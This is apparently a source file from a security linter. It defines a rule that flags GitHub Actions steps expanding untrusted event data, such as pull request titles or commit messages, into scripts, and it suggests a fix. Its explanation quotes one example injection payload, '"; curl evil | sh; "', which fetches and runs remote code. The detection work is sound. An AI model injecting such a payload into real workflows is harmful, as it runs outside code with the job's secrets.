import { isScalar } from 'yaml';
import { lineIndexOf } from '../../parse.js';
import { stringOf } from '../../support/data.js';
import { type Location, type YamlDocument, defineRule } from '../../types.js';
import { type GithubStep, type YamlPath, expressions, githubSteps } from './_support.js';

/** Contexts an outsider controls (after actionlint's list of untrusted inputs). `*` stands for an array index or key. */
const UNTRUSTED = [
  'github.head_ref',
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.event.changes.new_discussion.labels.*.name',
  'github.event.label.name',
].map((context) => new RegExp(`\\b${context.replace(/\./g, '\\.').replace(/\\\.\*\\\./g, '(?:\\.\\*|\\[[^\\]]+\\]|\\.\\d+)\\.')}\\b`));

export function untrustedContext(expression: string): string | undefined {
  for (const pattern of UNTRUSTED) {
    const match = pattern.exec(expression);
    if (match) return match[0];
  }
  return undefined;
}

export const scriptInjection = defineRule({
  id: 'workflow/script-injection',
  area: 'workflow',
  severity: 'high',
  title: 'Untrusted input expanded into a script',
  why:
    '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code running with the job\'s token and secrets.',
  detect:
    'A `${{ … }}` expression in a `run:` script, or in an input that an action runs as code (actions/github-script `script`, mikefarah/yq `cmd`, azure/cli `inlineScript`…), that reads a context an outsider controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and authors, branch names (github.head_ref, head.ref, workflow_run.head_branch), page names.',
  fix: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
  refs: ['zizmor:template-injection'],
  check({ repo, report }) {
    for (const step of githubSteps(repo)) {
      for (const input of codeInputs(step)) {
        for (const { expression, offset } of expressions(input.text)) {
          const context = untrustedContext(expression);
          if (!context) continue;
          report({
            location: locateInScalar(step.document, input.path, input.text, offset),
            message: `${context} is expanded into ${input.what} of job ${step.job.id}; pass it through env: instead`,
          });
        }
      }
    }
  },
});

/** Action inputs that the action runs as code: an expression there is script injection too. */
const CODE_INPUTS: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'mikefarah/yq': ['cmd'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'addnab/docker-run-action': ['run'],
};

function* codeInputs(step: GithubStep): Generator<{ text: string; path: YamlPath; what: string }> {
  if (step.run !== undefined) yield { text: step.run, path: [...step.path, 'run'], what: 'the script' };
  for (const input of CODE_INPUTS[step.action ?? ''] ?? []) {
    const text = stringOf(step.with[input]);
    if (text !== undefined) yield { text, path: [...step.path, 'with', input], what: `${step.action}'s ${input}` };
  }
}

/**
 * The position of an expression inside a (possibly block) scalar: found in the source text of the
 * node, so a finding points at the line of a multi-line script that holds it.
 */
function locateInScalar(document: YamlDocument, path: YamlPath, value: string, offset: number): Location {
  const whole = document.locate(path);
  const node = document.document.getIn(path, true);
  if (!isScalar(node) || !node.range) return whole;
  const source = document.file.text.slice(node.range[0], node.range[1]);
  const needle = value.slice(offset, value.indexOf('}}', offset) + 2);
  const at = source.indexOf(needle);
  if (at < 0) return whole;
  return lineIndexOf(document.file).location(document.file.path, node.range[0] + at, node.range[0] + at + needle.length - 1);
}
